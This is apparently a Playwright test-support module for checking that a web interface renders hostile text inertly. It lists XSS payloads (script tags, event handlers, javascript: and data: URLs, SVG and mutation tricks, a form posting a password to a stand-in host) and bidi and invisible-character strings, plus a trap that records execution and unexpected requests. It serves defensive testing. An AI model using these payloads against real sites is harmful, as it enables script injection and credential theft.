// Texts that try to be something else than text, and a browser that notices if one succeeds.
import type { BrowserContext, Page } from 'playwright-core';

const many = (text: string, times: number) => text.repeat(times);

/** What each of them would do if it ran: call the trap. `NAME()` is seen below, whoever calls it and from which frame. */
const trap = 'executed()';
const away = 'https://elsewhere.invalid/';

/** Of every kind one or more, all of them to be shown as they are. No carriage returns: a field for text has none. */
export const hostileTexts: Readonly<Record<string, readonly string[]>> = {
  script: [
    `<script>${trap}</script>`,
    `"><script src="${away}x.js"></script>`,
    `</textarea></title></style></script><script>${trap}</script>`,
    `<ScRiPt type="module">import("${away}x.js")</sCrIpT>`,
    `<script>${trap}`,
    `<<script>${trap}//<</script>`,
  ],
  handlers: [
    `<img src=x onerror=${trap}>`,
    `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="${trap}">`,
    `<body onload=${trap}>`,
    `<details open ontoggle=${trap}>`,
    `<input autofocus onfocus=${trap}>`,
    `<video><source onerror="${trap}"></video>`,
    `<div style="animation:spin 1s" onanimationstart=${trap}>`,
    `" autofocus onfocus=${trap} x="`,
    `' onmouseover='${trap}' x='`,
    `\`onmouseover=${trap}`,
  ],
  links: [
    `javascript:${trap}`,
    `JaVaScRiPt&colon;${trap}`,
    `java\tscript:${trap}`,
    `<a href="javascript:${trap}">press me</a>`,
    `https://example.com/"onmouseover="${trap}`,
    `http://javascript:${trap}@example.com`,
    `https://example.com/?next=javascript:${trap}`,
    `vbscript:${trap}`,
    `data:text/html,<script>${trap}</script>`,
    `data:text/html;base64,PHNjcmlwdD5leGVjdXRlZCgpPC9zY3JpcHQ+`,
    `blob:https://example.com/${trap}`,
    `[press me](javascript:${trap})`,
    `//elsewhere.invalid/x.js`,
  ],
  embedded: [
    `<svg onload=${trap}>`,
    `<svg><script>${trap}</script></svg>`,
    `<svg><animate onbegin=${trap} attributeName=x dur=1s>`,
    `<svg><foreignObject><iframe srcdoc="<script>parent.${trap}</script>"></foreignObject></svg>`,
    `<math><mtext></form><form><mglyph><style></math><img src onerror=${trap}>`,
    `<math href="javascript:${trap}">press me</math>`,
    `<iframe srcdoc="<script>parent.${trap}</script>"></iframe>`,
    `<iframe src="javascript:parent.${trap}"></iframe>`,
    `<object data="data:text/html,<script>${trap}</script>"></object>`,
    `<embed src="javascript:${trap}">`,
    `<link rel=stylesheet href=${away}x.css>`,
    `<style>@import '${away}x.css'; * { display: none }</style>`,
    `<base href="${away}">`,
    `<meta http-equiv="refresh" content="0;url=${away}">`,
    `<form action="${away}"><input name=password><button>`,
  ],
  mutation: [
    `<noscript><p title="</noscript><img src=x onerror=${trap}>">`,
    `<template><script>${trap}</script></template>`,
    `<svg></p><style><a id="</style><img src=1 onerror=${trap}>">`,
    `<listing>&lt;img src=1 onerror=${trap}&gt;</listing>`,
    `<xmp><p title="</xmp><svg/onload=${trap}>">`,
    `<!--><img src=x onerror=${trap}>-->`,
    `<![CDATA[<img src=x onerror=${trap}>]]>`,
    `<table><td><caption><select><xmp><script>${trap}</script>`,
    `&lt;img src=x onerror=${trap}&gt;`,
    `\\u003cimg src=x onerror=${trap}\\u003e`,
    `{{constructor.constructor('${trap}')()}}`,
    `\${${trap}}`,
    `__proto__`,
    `{"__html": "<img src=x onerror=${trap}>", "dangerouslySetInnerHTML": {"__html": "<b>"}}`,
  ],
  direction: [
    `\u202Etxt.exe invoice\u202C`,
    `an override that never ends \u202E<script>${trap}</script>`,
    `\u2066isolates \u2067 that \u2068 never end`,
    `\u202D\u202E\u202A\u202B all of the embeddings`,
    `السلام <b>عليكم</b> \u200F(1) abc \u200E!`,
    `\u061C\u200E\u200F marks`,
  ],
  invisible: [
    `zero\u200Bwidth\u200Cspace\u200Djoin\uFEFFers`,
    `java\u200Bscript:${trap}`,
    `https://exam\u00ADple.com/\u2060path`,
    `\u{E0001}\u{E0041}\u{E007F}tags`,
    `bell\u0007 escape\u001B[31m delete\u007F separators\u2028\u2029 end`,
    `\u3164 Hangul filler`,
  ],
  heavy: [
    many('😀', 20_000),
    many('Z̷̡̢͚̹̻̤̣̗̦̥̱̲͖̰̙̭̮̘͉̫͇̬̳̖̪̩̟̝̞̠̜̼̺͍͎͓͔͈͙͕̯', 200),
    `e${many('\u0301', 5_000)}`,
    many('\u0301', 1_000),
    many('👩‍👩‍👧‍👦🏳️‍🌈', 500),
    many('W', 20_000),
    many('<b>', 6_000),
    `https://example.com/${many('a', 10_000)}`,
    many('(', 10_000),
    many('line\n', 500).trimEnd(),
    '﷽'.repeat(500),
  ],
};

/** Whatever a page does that it would not do of itself. */
export class Trap {
  readonly caught: string[] = [];
  readonly #opened = new Set<Page>();

  /** For all pages of this context, and all frames in them. Nothing else than `origins` is to be asked for anything. */
  static async in(context: BrowserContext, origins: readonly string[]): Promise<Trap> {
    const trap = new Trap();
    await context.exposeBinding('caught', ({ frame }, what: string) => trap.#note(`${what} in ${frame.url()}`));
    await context.addInitScript(notice);
    context.on('request', (request) => {
      const { origin, protocol } = new URL(request.url());
      const known = origins.includes(origin) || protocol === 'blob:' || protocol === 'data:';
      if (!known) trap.#note(`a request of ${request.url()}`);
    });
    context.on('weberror', (fault) => trap.#note(`an error: ${fault.error()}`));
    context.on('page', (page) => !trap.#opened.has(page) && trap.#note(`a new window: ${page.url()}`));
    for (const page of context.pages()) trap.#watch(page);
    return trap;
  }

  #watch(page: Page): void {
    this.#opened.add(page);
    page.on('dialog', (dialog) => {
      this.#note(`a dialog: ${dialog.message()}`);
      void dialog.dismiss();
    });
    page.on('download', (download) => this.#note(`a download: ${download.url()}`));
    page.on('console', (line) => {
      if (line.type() === 'error' || line.type() === 'warning') this.#note(`on the console: ${line.text()}`);
    });
    page.on('crash', () => this.#note('a crash'));
  }

  #note(what: string): void {
    this.caught.push(what.slice(0, 300));
  }
}

/** Runs in every frame before anything of it. */
function notice(): void {
  const { caught } = window as unknown as { caught: (what: string) => void };
  const set = (name: string) =>
    Object.defineProperty(window, name, {
      value: () => caught(`${name}()`),
      writable: false,
      configurable: false,
    });
  for (const name of ['executed', 'alert', 'confirm', 'prompt', 'print']) set(name);
  addEventListener('securitypolicyviolation', ({ blockedURI, violatedDirective }) =>
    caught(`a breach of ${violatedDirective} by ${blockedURI}`),
  );
}
